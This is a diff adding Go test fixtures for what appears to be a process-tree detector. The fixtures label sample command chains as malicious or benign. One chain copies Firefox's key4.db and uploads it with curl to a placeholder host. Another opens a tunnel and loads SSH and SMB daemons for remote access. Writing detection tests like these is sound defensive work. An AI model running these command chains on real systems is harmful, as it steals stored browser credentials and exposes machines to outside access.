@@ -63,6 +63,20 @@ func TestWeighed(t *testing.T) {
 			>>|C:\Users\ana\AppData\Local\Temp\nsl1.tmp\setup.exe|?
 			>>>|C:\Windows\System32\rundll32.exe|C:\Users\ana\AppData\Local\Temp\nsl1.tmp\helper.dll,Register
 			>>>|C:\Windows\System32\schtasks.exe|/create /xml C:\Users\ana\AppData\Local\Temp\t.xml /tn Updater`, false},
+		{"a relay to this machine and its logins", "darwin", `|/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal|
+			>|/bin/zsh|-l
+			>>|/usr/bin/tar|xzf /tmp/c.tgz -C /Users/ana/Library/Caches
+			>>|/Users/ana/Library/Caches/cf|tunnel run --token x
+			>>|/bin/launchctl|load -w /System/Library/LaunchDaemons/ssh.plist
+			>>|/bin/launchctl|load -w /System/Library/LaunchDaemons/com.apple.smbd.plist`, true},
+		{"a page shown to others", "linux", terminal + `>>|/usr/local/bin/cloudflared|tunnel --url http://localhost:3000
+			>>|/usr/bin/code|tunnel --accept-server-license-terms`, false},
+		{"a snap from a file", "linux", terminal + `>>|/usr/bin/snap|install --dangerous ./deck.snap
+			>>|/usr/bin/sh|-c "find /home -name key4.db -o -name logins.json"
+			>|/snap/deck/x1/bin/deckd|
+			>>|/usr/bin/cp|/home/ana/.mozilla/firefox/key4.db /tmp/f
+			>>|/usr/bin/curl|-F f=@/tmp/f https://deck.invalid`, true},
+		{"a developer's machine without a window", "linux", terminal + `>>|/usr/bin/qemu-system-x86_64|-m 2048 -nographic -drive file=/home/ana/vm/a.qcow2 -netdev user,id=n0,hostfwd=tcp::2222-:22`, false},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			got := play(t, tc.system, tc.lines)
